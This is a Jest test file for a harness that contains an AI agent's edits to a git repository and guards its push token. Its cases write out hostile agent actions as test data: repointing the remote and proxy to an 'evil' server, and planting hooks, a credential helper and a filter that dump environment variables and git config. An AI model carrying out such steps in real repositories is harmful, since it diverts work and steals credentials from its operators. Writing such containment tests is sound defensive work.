// What an agent may do to the repository, and what becomes of the work and of the token: pushes go where the remote was
// at the start, and nothing that an agent has planted ever sees the token.
import { existsSync } from 'node:fs'
import { mkdir, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import type { Kept } from '../../src/domain/kept.js'
import { startGitServer, type GitServer } from '../support/git-server.js'
import {
  makeYard,
  openTestWorkspace,
  requestFor,
  walk,
  writeHook,
  type TestRepository,
  type Yard,
} from '../support/workspace-repository.js'

const token = 'secret-token'
let yard: Yard
let server: GitServer
let evil: GitServer
let work: TestRepository
beforeEach(async () => {
  yard = await makeYard()
  server = await startGitServer({ root: yard.folder, token })
  evil = await startGitServer({ root: yard.folder, token: 'of somebody else' })
  work = await yard.clone('work', 1)
  await work.git('remote', 'set-url', 'origin', `${server.url}/remote.git`)
})
afterEach(async () => {
  await server.close()
  await evil.close()
  await yard.destroy()
})

const open = () => openTestWorkspace(yard, work, {}, { token, serverUrl: server.url })

/** Lets the agent change a file and do its deed, then delivers. */
async function deliverAfter(deed: () => Promise<unknown>): Promise<Kept> {
  const workspace = open()
  const start = await workspace.open()
  await work.write('a.txt', 'agent\n')
  await deed()
  expect((await workspace.look(start)).hasDiff).toBe(true)
  return workspace.deliver(requestFor(start))
}

const delivered = { kind: 'delivered', ref: 'refs/heads/evolve/default/ex-12' }
const writeGlobal = (text: string) => writeFile(join(yard.env['HOME'] ?? '', '.gitconfig'), text)

describe('a push goes to the remote as it was, and the token nowhere else, when the agent', () => {
  it.each<[string, () => Promise<unknown>]>([
    [
      'changes the address of the remote',
      () => work.git('remote', 'set-url', 'origin', `${evil.url}/remote.git`),
    ],
    ['removes the remote', () => work.git('remote', 'remove', 'origin')],
    [
      'rewrites addresses in the clone and for the user, sets a proxy and another header',
      async () => {
        await work.git('config', 'remote.origin.pushurl', `${evil.url}/remote.git`)
        await work.git('config', `url.${evil.url}/.pushInsteadOf`, `${server.url}/`)
        await work.git('config', 'http.proxy', evil.url)
        await work.git('config', `http.${server.url}/.extraheader`, 'AUTHORIZATION: basic eDp5')
        await writeGlobal(`[url "${evil.url}/"]\n\tinsteadOf = ${server.url}/\n`)
      },
    ],
  ])('%s', async (_, deed) => {
    expect(await deliverAfter(deed)).toMatchObject(delivered)
    expect(evil.requests).toEqual([])
    expect(await yard.remote.git('show', 'evolve/default/ex-12:a.txt')).toBe('agent')
  })

  it('plants programs: hooks, a credential helper, an ssh command, a monitor, a filter', async () => {
    const seen = join(yard.folder, 'seen')
    const spy = `{ env; cat "$(git rev-parse --git-dir)/config"; } >>"${seen}"`
    const kept = await deliverAfter(async () => {
      for (const hook of [
        'pre-push',
        'reference-transaction',
        'pre-commit',
        'post-checkout',
        'post-index-change',
      ])
        await writeHook(join(work.top, '.git'), hook, spy)
      await writeHook(work.top, 'spy', spy)
      const program = join(work.top, 'hooks/spy')
      const settings = { 'core.hooksPath': 'hooks', 'core.fsmonitor': program, 'core.sshCommand': program }
      const more = {
        'credential.helper': `!${program}`,
        'core.gitProxy': program,
        'filter.spy.clean': `${program}; cat`,
      }
      for (const [name, value] of Object.entries({ ...settings, ...more }))
        await work.git('config', name, value)
      await work.write('.gitattributes', '*.txt filter=spy\n')
    })
    expect(kept).toMatchObject(delivered)
    // The filter runs, as the repository asks; it gets nothing that is ours.
    const spied = await readFile(seen, 'utf8')
    expect(spied).not.toContain(token)
    expect(spied).not.toContain(Buffer.from(`x-access-token:${token}`).toString('base64'))
    expect(await yard.remote.git('show', 'evolve/default/ex-12:a.txt')).toBe('agent')
  })

  it('had its way before: a program for logging in, there from the start, is not asked when our token is refused', async () => {
    const seen = join(yard.folder, 'seen')
    await work.git('config', 'credential.helper', `!env >"${seen}"; true`)
    server.intercept = () => ({ status: 401, body: 'Bad credentials' })
    expect(await deliverAfter(() => Promise.resolve())).toMatchObject({ kind: 'push-refused' })
    expect(existsSync(seen)).toBe(false)
  })

  it('leaves settings of the start in force: an address that was rewritten then is rewritten now', async () => {
    await work.git('remote', 'set-url', 'origin', 'short:remote.git')
    await work.git('config', `url.${server.url}/.insteadOf`, 'short:')
    expect(
      await deliverAfter(() => work.git('config', '--unset-all', `url.${server.url}/.insteadOf`)),
    ).toMatchObject(delivered)
  })
})

describe('the work is what a push would bring', () => {
  it('also where the agent has put another tree in the place of the one it started from', async () => {
    const workspace = open()
    const start = await workspace.open()
    await work.write('a.txt', 'hidden\n')
    await work.git('add', '--all')
    await work.git('replace', 'HEAD^{tree}', await work.git('write-tree'))
    await work.write('b.txt', 'agent\n')
    expect((await workspace.look(start)).paths).toEqual(['a.txt', 'b.txt'])
  })

  it('and never what lies in another folder, whatever `core.worktree` and `core.bare` say', async () => {
    const workspace = open()
    const start = await workspace.open()
    const elsewhere = join(yard.folder, 'elsewhere')
    await mkdir(elsewhere)
    await writeFile(join(elsewhere, 'precious.txt'), 'precious\n')
    await work.write('a.txt', 'agent\n')
    await work.git('config', 'core.worktree', elsewhere)
    expect((await workspace.look(start)).paths).toEqual(['a.txt'])
    await workspace.restore(start)
    expect(await readdir(elsewhere)).toEqual(['precious.txt'])
    await writeFile(join(work.top, '.git/config'), '[core]\n\tbare = true\n')
    expect((await workspace.look(start)).hasDiff).toBe(false)
  })
})

describe('a merge that the agent left in the middle', () => {
  const leaveMerge = async () => {
    await work.git('checkout', '--quiet', '-b', 'side')
    await work.write('a.txt', 'side\n')
    await work.commit('Side')
    await work.git('checkout', '--quiet', 'main')
    await work.write('a.txt', 'main\n')
    await work.commit('Main')
    await work.git('merge', 'side').catch(() => undefined)
  }

  it('is named by its paths as long as the marks stand in them', async () => {
    const workspace = open()
    const start = await workspace.open()
    await leaveMerge()
    expect((await workspace.look(start)).unresolved).toEqual(['a.txt'])
    await work.write('a.txt', 'both\n')
    expect((await workspace.look(start)).unresolved).toBeUndefined()
    await workspace.restore(start)
    expect(existsSync(join(work.top, '.git/MERGE_HEAD'))).toBe(false)
    expect(await work.git('status', '--porcelain')).toBe('')
  })

  it('is not seen in a file that only shows such marks', async () => {
    const workspace = open()
    const start = await workspace.open()
    await work.write('docs.md', '<<<<<<< ours\n=======\n>>>>>>> theirs\n')
    expect((await workspace.look(start)).unresolved).toBeUndefined()
  })
})

describe('a repository', () => {
  it('inside the workspace is named, and its files are no part of the work', async () => {
    const workspace = open()
    const start = await workspace.open()
    await work.git('init', '--quiet', 'inner')
    await work.write('inner/x.txt', 'x\n')
    expect(await workspace.look(start)).toMatchObject({
      hasDiff: false,
      notes: [expect.stringMatching(/^inner is a repository of its own/)],
    })
  })

  it.each<[string, () => Promise<unknown>]>([
    ['deleted', () => rm(join(work.top, '.git'), { recursive: true })],
    [
      'made anew',
      async () => {
        await rm(join(work.top, '.git'), { recursive: true })
        await work.git('init', '--quiet')
        await work.commit('Anew')
      },
    ],
  ])('that was %s by the agent is said to be lost, and nothing throws', async (_, deed) => {
    const workspace = open()
    const start = await workspace.open()
    await work.write('a.txt', 'agent\n')
    await deed()
    expect(await workspace.look(start)).toMatchObject({
      hasDiff: false,
      notes: [expect.stringContaining('deleted or made anew')],
    })
    await workspace.restore(start)
    expect(await work.read('a.txt')).toBe('agent\n')
  })
})

describe('somebody else who commits in the same clone', () => {
  it.each(['refuse', 'deliver'] as const)(
    'keeps branch and files when the work is to leave them (%s)',
    async (verb) => {
      const workspace = open()
      const start = await workspace.open()
      await work.write('a.txt', 'agent\n')
      // The push is the moment after the work was looked at and before the workspace is restored.
      let theirs: string | undefined
      server.intercept = async (request) => {
        if (request.isPush) theirs ??= await work.commit('Theirs')
        return undefined
      }
      const kept = await workspace[verb](requestFor(start))
      expect(kept).toMatchObject({
        kind: { refuse: 'refused', deliver: 'delivered' }[verb],
        notes: [expect.stringContaining('main got another commit meanwhile')],
      })
      expect(await work.git('rev-parse', 'HEAD')).toBe(theirs)
      expect(Object.keys(await walk(work.top))).toContain('a.txt')
      expect(await work.git('status', '--porcelain')).toBe('')
    },
  )
})
